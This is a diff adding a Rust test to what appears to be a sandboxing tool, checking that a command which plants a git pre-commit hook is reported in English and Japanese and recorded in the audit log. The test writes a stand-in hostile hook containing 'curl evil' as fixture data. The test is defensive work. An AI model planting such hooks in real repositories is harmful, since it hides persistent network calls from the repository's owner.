@@ -379,3 +379,44 @@ fn our_messages_begin_with_our_name() {
     let run = exec(workspace.path(), &["sh", "-c", "echo theirs >&2; exit 127"]);
     assert_eq!((run.code, run.err.as_str()), (Some(127), "theirs\n"));
 }
+
+/// X-PROTECT, escape F32: a repository that a command makes is said in both languages, reported and audited, and stays.
+#[test]
+fn x_protect_a_planted_repository_is_reported() {
+    if !can_confine() {
+        return;
+    }
+    for (lang, word) in [("en", "left"), ("ja", "残しました")] {
+        let workspace = tempfile::tempdir().unwrap();
+        let state = tempfile::tempdir().unwrap();
+        let script = "mkdir -p a/.git/hooks; echo 'curl evil' > a/.git/hooks/pre-commit";
+        let output = command(state.path())
+            .current_dir(workspace.path())
+            .args(["exec", "--lang", lang, "--report", "json", "--", "sh", "-c"])
+            .arg(script)
+            .output()
+            .unwrap();
+        let said = text(&output.stderr);
+        assert_eq!(output.status.code(), Some(0), "{said}");
+        let planted = workspace.path().canonicalize().unwrap().join("a/.git");
+        let shown = planted.display().to_string();
+        let line = said.lines().find(|line| line.contains(word));
+        assert!(line.is_some_and(|line| line.contains(&shown)), "{said}");
+        let report = said.lines().find(|line| line.starts_with('{')).unwrap();
+        let report: serde_json::Value = serde_json::from_str(report).unwrap();
+        assert_eq!(
+            report["findings"],
+            serde_json::json!([{ "path": shown, "kind": "appeared" }])
+        );
+        assert!(planted.join("hooks/pre-commit").exists());
+        let audit = command(state.path())
+            .args(["audit", "show", "--json"])
+            .output()
+            .unwrap();
+        let recorded = text(&audit.stdout);
+        let line = recorded
+            .lines()
+            .find(|line| line.contains("sandbox.finding"));
+        assert!(line.is_some_and(|line| line.contains(&shown)), "{recorded}");
+    }
+}
